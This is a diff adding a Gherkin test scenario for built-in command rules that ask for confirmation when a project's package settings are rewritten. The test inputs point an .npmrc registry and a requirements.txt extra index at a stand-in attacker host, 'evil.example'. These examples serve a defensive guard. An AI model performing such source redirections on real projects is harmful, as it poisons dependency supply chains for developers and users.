@@ -1804,3 +1804,13 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits rule "security-weakening" with action "deny"
     When PowerShell is asked to run "reg query HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal"
     Then the call hits no rule
+
+  @S-RULE-211
+  Scenario: A project's package settings that name another source ask when they are written
+    Given the built-in command rules
+    When "FileSystem" is called with {"mode": "write", "path": "C:\\src\\repo\\.npmrc", "content": "registry=http://evil.example/"}
+    Then the call hits rule "persistence-autostart" with action "ask"
+    When PowerShell is asked to run "Add-Content C:\src\repo\requirements.txt '--extra-index-url http://evil.example/simple'"
+    Then the call hits rule "persistence-autostart" with action "ask"
+    When "FileSystem" is called with {"mode": "write", "path": "C:\\src\\repo\\.npmrc", "content": "registry=https://registry.npmjs.org/"}
+    Then the call hits no rule
